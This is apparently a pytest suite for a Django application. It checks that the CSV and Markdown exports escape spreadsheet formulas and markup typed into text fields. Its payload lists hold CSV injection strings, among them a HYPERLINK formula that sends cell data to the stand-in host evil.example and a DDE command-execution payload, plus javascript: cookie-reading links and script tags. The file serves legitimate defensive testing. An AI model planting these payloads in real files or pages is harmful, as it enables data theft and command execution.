"""Every CSV and Markdown export neutralises formulas and markup typed into text fields (issue 8, "Bad input").

Titles, names, units, descriptions, teams and notes carry the classic injections; each export is
downloaded as a person would and its bytes are checked: no CSV cell a spreadsheet would run as a formula,
no Markdown that renders as a link, HTML or a broken table. A table of the exports sits beside the test,
and a URL that serves CSV or Markdown without an entry in it fails the test.
"""

import csv
import io
import re
from datetime import date, timedelta

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone

from committee.choices import DecisionStatus
from milestones.models import Milestone
from tests.campaigns.factories import CampaignFactory
from tests.committee.factories import DecisionFactory, PolicyCommitteeFactory
from tests.qa.factories import MetricFactory, SpecificationFactory, measure, succeeded_run

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/steal?d="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=2+2",
]
MARKUP = [
    "Left | right",
    "[release notes](javascript:alert(document.cookie))",
    "<script>alert(1)</script>",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def injected_history() -> dict[str, object]:
    """Objects whose text fields hold every injection, and the parameters of the exports that show them."""
    policy = PolicyCommitteeFactory(name='=HYPERLINK("http://evil.example")')
    for number, text in enumerate(FORMULAS + MARKUP):
        DecisionFactory(
            committee=policy,
            title=text,
            status=DecisionStatus.APPROVED,
            outcome_summary=text,
            closed_at=timezone.now(),
        )
        Milestone.objects.create(
            jira_key=f"PREOPS-{900 + number}",
            project_id=text[:32],
            title=text,
            team=text,
            status="To Do",
            due_date=date.today() + timedelta(days=number - 3),
        )
    metrics = []
    for number, text in enumerate(FORMULAS + MARKUP):
        metric = MetricFactory(name=f"demo.injected_{number}", unit=text[:30], description=text)
        SpecificationFactory(metric=metric, tag_key="band", tag_value=text)
        metrics.append(metric)
    runs = []
    for text in FORMULAS[:2]:
        campaign = CampaignFactory(name=text)
        run = succeeded_run(campaign)
        run.step.name = FORMULAS[2]
        run.step.save()
        for metric in metrics:
            measure(run, metric, [1.0, -2.5, 3.0], band=text)
        runs.append(run)
    return {"run": runs[0].pk, "a": runs[0].pk, "b": runs[1].pk, "metric": metrics[0].name}


# Every CSV or Markdown download: URL name -> (format, the query it needs).
EXPORTS = {
    "committee:decision-register-csv": ("csv", lambda ids: {}),
    "committee:decision-register-markdown": ("md", lambda ids: {}),
    "milestones:report-csv": ("csv", lambda ids: {}),
    "milestones:report-markdown": ("md", lambda ids: {"team": MARKUP}),
    "qa:run-qa-csv": ("csv", lambda ids: {}),
    "qa:run-compare-csv": ("csv", lambda ids: {"a": ids["a"], "b": ids["b"]}),
    "qa:metric-trend-csv": ("csv", lambda ids: {"metric": ids["metric"]}),
    "qa:metric-list-csv": ("csv", lambda ids: {}),
}


def export_url(name: str, ids: dict) -> str:
    return reverse(name, kwargs={"submission_id": ids["run"]} if name == "qa:run-qa-csv" else None)


def download_urls() -> set[str]:
    """The names of the URLs whose route ends like a download (``.csv``, ``.md``, ``csv/``)."""
    names = set()

    def walk(patterns, namespace: str) -> None:
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                walk(pattern.url_patterns, f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace)
            elif isinstance(pattern, URLPattern) and str(pattern.pattern).rstrip("/$").endswith(("csv", ".md")):
                names.add(f"{namespace}{pattern.name}")

    walk(get_resolver().url_patterns, "")
    return names


def test_the_table_lists_every_csv_and_markdown_export():
    assert download_urls() == set(EXPORTS)


def test_no_csv_export_has_a_cell_a_spreadsheet_would_run(client_for, viewer):
    ids = injected_history()
    client = client_for(viewer)

    for name, (kind, query) in EXPORTS.items():
        if kind != "csv":
            continue
        response = client.get(export_url(name, ids), query(ids))
        assert response.status_code == 200, name
        assert response["Content-Type"] == "text/csv; charset=utf-8", name
        cells = [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
        runnable = [cell for cell in cells if cell.startswith(FORMULA_STARTS) and not is_number(cell)]
        assert runnable == [], name
        shown = [text for text in FORMULAS if f"'{text}" in cells]
        assert shown, f"{name} shows none of the injected text, so this test proves nothing about it"


def test_numbers_stay_numbers_in_csv_exports(client_for, viewer):
    ids = injected_history()

    response = client_for(viewer).get(export_url("qa:run-qa-csv", ids))

    rows = list(csv.reader(io.StringIO(response.content.decode())))
    header = rows[0]
    assert {row[header.index("min")] for row in rows[1:]} == {"-2.5"}


def test_no_markdown_export_renders_a_link_html_or_a_broken_table(client_for, viewer):
    ids = injected_history()
    client = client_for(viewer)

    for name, (kind, query) in EXPORTS.items():
        if kind != "md":
            continue
        response = client.get(export_url(name, ids), query(ids))
        assert response.status_code == 200, name
        assert response["Content-Type"] == "text/markdown; charset=utf-8", name
        text = response.content.decode()
        assert not re.search(r"(?<!\\)<", text), f"{name} has an unescaped <"
        assert not re.search(r"(?<!\\)\]\(", text), f"{name} has an unescaped link"
        assert r"\<script\>alert(1)\</script\>" in text, name
        assert r"\[release notes\](javascript:alert(document.cookie))" in text, name
        for table in tables_of(text):
            columns = {line.replace("\\|", "").count("|") for line in table}
            assert len(columns) == 1, f"{name}: a row with another number of cells than its header:\n{table}"


def tables_of(text: str) -> list[list[str]]:
    tables, current = [], []
    for line in text.splitlines():
        if line.startswith("|"):
            current.append(line)
        elif current:
            tables.append(current)
            current = []
    return tables + ([current] if current else [])


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
